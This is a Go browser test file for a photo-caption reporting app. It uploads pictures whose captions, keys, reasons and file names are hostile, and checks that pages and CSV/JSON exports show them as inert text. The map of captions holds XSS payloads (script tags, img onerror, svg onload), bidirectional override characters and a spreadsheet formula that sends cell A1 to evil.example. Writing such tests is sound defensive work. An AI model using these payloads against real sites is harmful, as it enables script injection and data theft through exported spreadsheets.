package browser_test

import (
	"bytes"
	"encoding/binary"
	"encoding/csv"
	"encoding/json"
	"hash/crc32"
	"image"
	"image/png"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"cutline/internal/photo"
	"cutline/internal/writeback"
)

// captioned is a picture with the caption: a demo picture, or a PNG where a
// JPEG has no room for it.
func captioned(t *testing.T, caption string) []byte {
	t.Helper()
	var b bytes.Buffer
	if len(caption) > 30_000 {
		if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 60, 40))); err != nil {
			t.Fatal(err)
		}
		packet, err := writeback.Sidecar(nil, writeback.Texts{photo.Caption: caption})
		if err != nil {
			t.Fatal(err)
		}
		const end = 12 // the last chunk, which is empty
		text := append([]byte("iTXtXML:com.adobe.xmp\x00\x00\x00\x00\x00"), packet...)
		chunk := binary.BigEndian.AppendUint32(nil, uint32(len(text)-4))
		chunk = binary.BigEndian.AppendUint32(append(chunk, text...), crc32.ChecksumIEEE(text))
		return slices.Insert(b.Bytes(), b.Len()-end, chunk...)
	}
	if err := writeback.JPEG(&b, bytes.NewReader(demoPictures(t)["harbour-own.jpg"]), writeback.Texts{photo.Caption: caption}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// harmless looks at the page as it is shown: nothing of a caption is markup or
// was run, nothing turns the text around, nothing is wider than the window.
func (p *page) harmless(what string, width int64) {
	p.t.Helper()
	if eval[bool](p, "!!window.owned || !!document.querySelector('main b b, main svg[onload], main script, main img[onerror]')") {
		p.t.Errorf("%s: a caption is markup", what)
	}
	if wide := eval[int64](p, "document.documentElement.scrollWidth"); wide > width {
		p.t.Errorf("%s is %d pixels wide in a window of %d", what, wide, width)
	}
	if eval[bool](p, `/[\u202A-\u202E\u2066-\u2069]/.test(document.body.innerText)`) {
		p.t.Errorf("%s has characters that turn the text around", what)
	}
}

// hostile are captions, with what of each is to be seen.
var hostile = map[string]struct{ caption, shows string }{
	"script":    {`<script>window.owned=1</script><img src=x onerror="window.owned=1"> "><svg onload=window.owned=1> (AP Photo/Ann Bee)`, "<script>window.owned=1</script>"},
	"overrides": {"Boats leave \u202Eriah na\u202C, Oban \u2066x\u2069. REUTERS/Joan Baird", "⟦RLO⟧riah na⟦PDF⟧"},
	"long":      {strings.Repeat("A very long caption. ", 5000) + "REUTERS/Joan Baird", "A very long caption."},
	"arabic":    {"قوارب تغادر الميناء في أوبان. رويترز/جوان بيرد", "قوارب تغادر الميناء"},
	"formula":   {`=HYPERLINK("http://evil.example/?"&A1,"click") Boats leave; =1+1 harbour in Oban. REUTERS/Joan Baird`, `=HYPERLINK(`},
	"word":      {strings.Repeat("Donaudampfschiff", 500), "Donaudampfschiff"},
}

// Whatever stands in a caption, a key or a reason is shown as text on every
// page, and nothing else on the page is moved, hidden or run by it.
func TestHostileCaptions(t *testing.T) {
	s := start(t)
	p := tab(t)
	for name, c := range hostile {
		key := name + "\n<b>\"'\u202E&.jpg"
		s.upload(t, key, captioned(t, c.caption))
		address := "/reports/photos/" + escapePath(key)
		p.visit(s.url + address)
		// A reason is as hostile as a caption; it stands in the history.
		eval[bool](p, "(document.querySelector('#decide [name=reason]').value = "+quote(beginning(c.caption))+", document.querySelector('#decide [value=hold]').click(), true)")
		p.wait("document.querySelector('.stands.hold')")
		for _, width := range []int64{1440, 390} {
			p.look("light", width, 900)
			for _, path := range []string{"/", address} {
				p.visit(s.url + path)
				eval[bool](p, "(document.querySelectorAll('details').forEach(d => d.open = true), true)")
				p.wait("document.body.innerText.includes(" + quote(c.shows) + ")")
				p.harmless(name+" at "+path, width)
			}
			if !eval[bool](p, "[...document.querySelectorAll('.history[aria-label=Decisions] li')].some(l => l.innerText.includes("+quote(c.shows)+"))") {
				t.Errorf("%s: the reason does not stand in the history", name)
			}
		}
		if name == "arabic" {
			if dir := eval[string](p, "getComputedStyle(document.querySelector('article .caption')).direction"); dir != "rtl" {
				t.Errorf("Arabic runs %s", dir)
			}
		}
	}
	for _, width := range []int64{1440, 390} {
		p.look("light", width, 900)
		for _, path := range []string{"/overview", "/rules", "/rules/verification.missing", "/upload", "/tokens", "/dead-letters", "/?counts=1"} {
			p.visit(s.url + path)
			p.harmless(path, width)
		}
	}
	s.exportsHold(t, p)
}

// beginning is what a reason may be long.
func beginning(s string) string { return strings.ToValidUTF8(s[:min(len(s), 900)], "") }

// exportsHold reads both exports as a page would: all is there, as data.
func (s *stack) exportsHold(t *testing.T, p *page) {
	t.Helper()
	type file struct{ Type, Disposition, Body string }
	read := func(path string) file {
		return eval[file](p, `fetch(`+quote(path)+`).then(async r => ({Type: r.headers.get("Content-Type"), Disposition: r.headers.get("Content-Disposition"), Body: await r.text()}))`)
	}
	asJSON := read("/export.json")
	var list struct{ Reports []struct{ Key, Text string } }
	if err := json.Unmarshal([]byte(asJSON.Body), &list); err != nil || !strings.HasPrefix(asJSON.Type, "application/json") || !strings.HasPrefix(asJSON.Disposition, "attachment") {
		t.Fatal(asJSON.Type, asJSON.Disposition, err)
	}
	for _, one := range list.Reports {
		name, _, _ := strings.Cut(one.Key, "\n")
		if one.Text == "" || !strings.HasPrefix(hostile[name].caption, one.Text) {
			t.Errorf("JSON: the caption of %q is %.100q", one.Key, one.Text)
		}
	}
	asCSV := read("/export.csv")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(asCSV.Body, "\uFEFF"))).ReadAll()
	if err != nil || !strings.HasPrefix(asCSV.Type, "text/csv") || !strings.HasPrefix(asCSV.Disposition, "attachment") {
		t.Fatal(asCSV.Type, asCSV.Disposition, err)
	}
	if len(list.Reports) != len(hostile) || len(rows) != len(hostile)+1 {
		t.Errorf("%d reports in JSON, %d lines in CSV", len(list.Reports), len(rows))
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.Contains(cell, "; =") {
				t.Errorf("CSV: a cell is a formula: %.100q", cell)
			}
		}
	}
}

// A file's name is shown on the page that uploads it as harmlessly.
func TestHostileNames(t *testing.T) {
	s := start(t)
	path := filepath.Join(t.TempDir(), "boat \u202Egpj.<b>x<svg onload=owned=1>.jpg")
	if err := os.WriteFile(path, captioned(t, hostile["overrides"].caption), 0o600); err != nil {
		t.Fatal(err)
	}
	p := open(t, s.url+"/upload")
	p.do(chromedp.SetUploadFiles("#files", []string{path}))
	p.wait("document.querySelector('#uploads .verdict')")
	p.harmless("/upload", 1440)
	if got := p.text("#uploads a"); got != "boat ⟦202E⟧gpj.<b>x<svg onload=owned=1>.jpg" {
		t.Errorf("the file is called %q", got)
	}
	p.click("#uploads a")
	p.wait("document.querySelector('h1.key')?.innerText.includes('⟦RLO⟧')")
	p.harmless("the report", 1440)
}
